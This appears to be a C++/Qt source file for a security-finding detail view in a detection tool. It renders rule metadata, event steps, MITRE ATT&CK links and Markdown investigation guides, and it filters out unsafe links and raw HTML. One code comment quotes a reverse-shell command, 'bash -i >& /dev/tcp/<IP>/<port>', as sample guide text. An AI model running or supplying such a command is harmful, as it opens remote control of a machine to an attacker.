#include "widgets/finding_detail_view.h"

#include "eql/analyzer.h"
#include "eql/parser.h"
#include "logging.h"
#include "review_state.h"
#include "rules/rule_loader.h"
#include "sql_text.h"
#include "store/database.h"
#include "store/statement.h"
#include "time_text.h"
#include "web_links.h"

#include <QDesktopServices>
#include <QTextBlock>
#include <QTextBlockFormat>
#include <QTextBrowser>
#include <QTextCharFormat>
#include <QTextCursor>
#include <QTextDocument>
#include <QTextDocumentFragment>
#include <QUrl>
#include <QVBoxLayout>
#include <memory>
#include <nlohmann/json.hpp>
#include <optional>

namespace spoor::ui {

namespace {

QString escaped(const std::string& text)
{
    return QString::fromStdString(text).toHtmlEscaped();
}

// Returns an HTML link to url, or the text alone when url is not a web link: rule references come from rule
// files, which may carry javascript: or data: URLs.
QString link(const std::string& url, const QString& text)
{
    if (!isWebLink(QUrl(QString::fromStdString(url))))
        return text;
    return QStringLiteral("<a href=\"%1\">%2</a>").arg(escaped(url), text);
}

// Returns the join fields of the query's first stage, query-level keys first ("host.id, user.id, process.pid"),
// or an empty list when the query does not parse.
QStringList joinFields(const std::string& query)
{
    QStringList fields;
    try {
        const eql::AnalysedQuery analysed = eql::analyse(eql::parseQuery(query));
        if (!analysed.stageKeys.empty()) {
            for (const auto& key : analysed.stageKeys.front())
                fields.append(QString::fromStdString(eql::toSource(*key)));
        }
    } catch (const std::exception& error) {
        qCDebug(lcMainWindow) << "cannot read the join fields of the query:" << error.what();
    }
    return fields;
}

QString joinKeysHtml(const std::string& joinKeysJson, const QStringList& fields)
{
    nlohmann::json keys;
    try {
        keys = nlohmann::json::parse(joinKeysJson);
    } catch (const nlohmann::json::exception&) {
        return escaped(joinKeysJson);
    }
    QStringList parts;
    for (std::size_t index = 0; index < keys.size(); ++index) {
        const std::string value = keys[index].is_string() ? keys[index].get<std::string>() : keys[index].dump();
        const QString field =
            index < static_cast<std::size_t>(fields.size()) ? fields[static_cast<qsizetype>(index)] : QString();
        parts.append(field.isEmpty()
                         ? escaped(value)
                         : QStringLiteral("%1 = <code>%2</code>").arg(field.toHtmlEscaped(), escaped(value)));
    }
    return parts.join(QLatin1String(", "));
}

QString stepsHtml(const store::Database& db, std::int64_t findingId)
{
    auto select = db.prepare("SELECT fe.step, fe.event, e.timestamp_ns, e.action, e.process_name, e.pid, e.user_name,"
                             " e.command_line, e.exit_code FROM finding_events fe LEFT JOIN events e ON e.id = fe.event"
                             " WHERE fe.finding = ? ORDER BY fe.step");
    select.bind(1, findingId);
    QString html = FindingDetailView::tr("<h4>Steps</h4><table cellspacing=\"0\" cellpadding=\"2\">");
    while (select.step()) {
        const auto step = select.int64(0) + 1;
        if (select.isNull(1)) {
            html += FindingDetailView::tr("<tr><td><b>%1</b></td><td>missing event</td></tr>").arg(step);
            continue;
        }
        QString process = textColumn(select, 4).toHtmlEscaped();
        if (const auto pid = select.optionalInt64(5))
            process += FindingDetailView::tr(" (pid %1)").arg(*pid);
        QString action = textColumn(select, 3).toHtmlEscaped();
        if (const auto exitCode = select.optionalInt64(8))
            action += FindingDetailView::tr(", exit code %1").arg(*exitCode);
        html += FindingDetailView::tr("<tr><td valign=\"top\"><b>%1</b></td><td>%2 · %3 · %4 · user %5<br>"
                                      "<code>%6</code></td></tr>")
                    .arg(step)
                    .arg(isoTime(select.optionalInt64(2)), action, process, textColumn(select, 6).toHtmlEscaped(),
                         textColumn(select, 7).toHtmlEscaped());
    }
    return html + QLatin1String("</table>");
}

QString threatsHtml(const rules::Rule& rule)
{
    if (rule.threats.empty())
        return {};
    QString html = FindingDetailView::tr("<h4>MITRE ATT&amp;CK</h4><ul>");
    for (const rules::Threat& threat : rule.threats) {
        QStringList techniques;
        for (const rules::Technique& technique : threat.techniques)
            techniques.append(link(technique.reference, escaped(technique.id + " " + technique.name)));
        html += QStringLiteral("<li>%1: %2</li>")
                    .arg(link(threat.tactic.reference, escaped(threat.tactic.id + " " + threat.tactic.name)),
                         techniques.join(QLatin1String(", ")));
    }
    return html + QLatin1String("</ul>");
}

QString referencesHtml(const rules::Rule& rule)
{
    if (rule.references.empty())
        return {};
    QString html = FindingDetailView::tr("<h4>References</h4><ul>");
    for (const std::string& reference : rule.references)
        html += QStringLiteral("<li>%1</li>").arg(link(reference, escaped(reference)));
    return html + QLatin1String("</ul>");
}

// Appends a document at the cursor as blocks of their own. insertFragment() and insertHtml() merge their first
// block into the cursor's block and keep that block's format, so a heading would join the ATT&CK list above.
// A new block with the format of the source's first block is therefore started first.
// NOTE: a source that starts with a list item loses that item's bullet, because the list belongs to the source.
void appendDocument(QTextCursor& cursor, const QTextDocument& source)
{
    const QTextBlock first = source.firstBlock();
    QTextBlockFormat format = first.blockFormat();
    format.clearProperty(QTextFormat::ObjectIndex);
    cursor.insertBlock(format, first.charFormat());
    cursor.insertFragment(QTextDocumentFragment(&source));
}

void appendHtml(QTextCursor& cursor, const QString& html)
{
    QTextDocument document;
    document.setHtml(html);
    appendDocument(cursor, document);
}

// Returns the rule's Markdown note as a document. Raw HTML stays text, because guides write placeholders
// such as `bash -i >& /dev/tcp/<IP>/<port>` and a `<script>` tag would hide the rest of the guide.
std::unique_ptr<QTextDocument> noteDocument(const std::string& markdown)
{
    auto note = std::make_unique<QTextDocument>();
    note->setMarkdown(
        QString::fromStdString(markdown),
        QTextDocument::MarkdownFeatures(QTextDocument::MarkdownDialectGitHub | QTextDocument::MarkdownNoHTML));
    unlinkNonWebAnchors(*note);
    return note;
}

} // namespace

FindingDetailView::FindingDetailView(QWidget* parent) : QWidget(parent), browser_(new QTextBrowser(this))
{
    // Links are opened here rather than by the browser, so that no link left in the document can open a
    // scheme other than http, https or mailto.
    browser_->setOpenLinks(false);
    connect(browser_, &QTextBrowser::anchorClicked, this, &FindingDetailView::openLink);
    auto* layout = new QVBoxLayout(this);
    layout->setContentsMargins(0, 0, 0, 0);
    layout->addWidget(browser_);
    clear();
}

void FindingDetailView::openLink(const QUrl& url)
{
    if (!isWebLink(url)) {
        qCWarning(lcMainWindow) << "not opening the link" << url.toDisplayString() << "of finding" << findingId_
                                << ": only http, https and mailto links are opened";
        return;
    }
    QDesktopServices::openUrl(url);
}

void FindingDetailView::clear()
{
    findingId_ = 0;
    browser_->setHtml(tr("<p>Select a finding to see its rule, steps and investigation guide.</p>"));
}

void FindingDetailView::setGroupSummary(const QString& html)
{
    findingId_ = 0;
    browser_->setHtml(html);
}

void FindingDetailView::setFinding(const store::Database& db, std::int64_t findingId)
{
    findingId_ = findingId;
    try {
        show(db, findingId);
    } catch (const store::StoreError& error) {
        qCWarning(lcMainWindow) << "cannot read finding" << findingId << ":" << error.what();
        browser_->setHtml(tr("<p>Cannot read finding %1: %2</p>")
                              .arg(findingId)
                              .arg(QString::fromUtf8(error.what()).toHtmlEscaped()));
    }
}

void FindingDetailView::show(const store::Database& db, std::int64_t findingId)
{
    auto select = db.prepare("SELECT r.toml, r.origin, r.name, r.severity, r.risk_score, r.updated_date, r.rule_id,"
                             " f.verdict, f.verdict_reason, f.join_keys FROM findings f JOIN rules r ON r.id = f.rule"
                             " WHERE f.id = ?");
    select.bind(1, findingId);
    if (!select.step()) {
        browser_->setHtml(tr("<p>Finding %1 is not in the case.</p>").arg(findingId));
        return;
    }
    std::optional<rules::Rule> rule;
    QString ruleError;
    try {
        rule = rules::parseRule(select.text(0), select.text(1));
    } catch (const std::exception& error) {
        ruleError = QString::fromUtf8(error.what());
    }

    const ReviewState state = reviewState(select.optionalText(7));
    QString html = QStringLiteral("<h3>%1</h3>").arg(textColumn(select, 2).toHtmlEscaped());
    html += tr("<p>Finding %1 · severity %2 · risk score %3 · rule version %4<br><small>rule_id %5</small></p>")
                .arg(findingId)
                .arg(textColumn(select, 3).toHtmlEscaped(), textColumn(select, 4).toHtmlEscaped(),
                     textColumn(select, 5).toHtmlEscaped(), textColumn(select, 6).toHtmlEscaped());
    html += tr("<p><b>Verdict:</b> <span style=\"color:%1\">●</span> %2 %3</p>")
                .arg(reviewColor(state).name(), reviewText(state),
                     select.isNull(8) ? QString() : QStringLiteral("— ") + textColumn(select, 8).toHtmlEscaped());
    if (rule)
        html += QStringLiteral("<p>%1</p>").arg(escaped(rule->description));
    else
        html += tr("<p>The stored rule text does not parse: %1</p>").arg(ruleError.toHtmlEscaped());
    html += tr("<h4>Join keys (of step 1)</h4><p>%1</p>")
                .arg(joinKeysHtml(select.text(9), rule ? joinFields(rule->query) : QStringList()));
    html += stepsHtml(db, findingId);
    if (rule)
        html += threatsHtml(*rule);

    browser_->setHtml(html);
    QTextCursor cursor(browser_->document());
    cursor.movePosition(QTextCursor::End);
    if (rule && !rule->note.empty()) {
        appendHtml(cursor, tr("<h4>Investigation guide</h4>"));
        appendDocument(cursor, *noteDocument(rule->note));
    }
    if (rule && !rule->references.empty())
        appendHtml(cursor, referencesHtml(*rule));
    browser_->moveCursor(QTextCursor::Start);
}

} // namespace spoor::ui
